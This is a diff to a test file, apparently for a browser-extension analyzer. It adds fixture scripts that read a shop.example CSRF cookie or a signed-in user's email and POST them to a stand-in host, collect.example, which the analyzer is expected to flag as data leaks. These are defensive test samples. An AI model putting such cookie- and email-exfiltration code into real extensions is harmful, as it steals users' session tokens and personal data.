@@ -34,6 +34,14 @@ const SESSION =
 const HELPER =
   "const token = (site, name) => new Promise((done) => chrome.cookies.get({ url: site, name }, (c) => done(c.value))); (async () => { await fetch('ADDRESS', { method: 'POST', body: await token('https://www.shop.example', 'csrf') }); })();";
 
+/** One helper reads a cookie of each of two sites; what is read of the second is sent. */
+const ofTwo = (address: string): string =>
+  `function read(what, then) { chrome.cookies.get(what, then); } read({ url: 'https://collect.example', name: 'a' }, (c) => show(c)); read({ url: 'https://www.shop.example', name: 'csrf' }, (c) => fetch('${address}', { method: 'POST', body: c.value }));`;
+
+/** An answer of a site to its signed-in user, which is asked for at an address for who makes the program, or the real one. */
+const whileMade = (address: string): string =>
+  `const server = process.env.NODE_ENV === 'development' ? 'http://localhost:4000' : 'https://www.shop.example'; fetch(server + '/user', { credentials: 'include' }).then((r) => r.json()).then(({ mail }) => fetch(${address} + '/stats', { method: 'POST', body: mail }));`;
+
 /** A content script of these sites whose module reads cookies, which the background sends to one site. */
 const ofModule = (matches: string): Case => ({
   permissions: ['<all_urls>'],
@@ -116,6 +124,23 @@ it.each<[string, Case, readonly string[], Case, readonly string[]]>([
       script: HELPER.replace('ADDRESS', 'https://collect.example/x'),
     },
     ['browsing-data-to-network'],
+  ],
+  [
+    'a cookie by a helper that reads of several sites, which goes back to the one that it is of',
+    { permissions: ['cookies', '<all_urls>'], script: ofTwo('https://api.shop.example/token') },
+    [],
+    { permissions: ['cookies', '<all_urls>'], script: ofTwo('https://collect.example/x') },
+    ['browsing-data-to-network'],
+  ],
+  [
+    'what a site answers that goes back there, with an address of the own computer beside it',
+    { permissions: ['https://*.shop.example/*'], script: whileMade('server') },
+    [],
+    {
+      permissions: ['https://*.shop.example/*'],
+      script: whileMade("(debug ? 'http://localhost:4000' : 'https://collect.example')"),
+    },
+    ['private-data-to-network'],
   ],
   [
     "cookies of the one site of a content script, read in a module of it and sent to the site's interface",
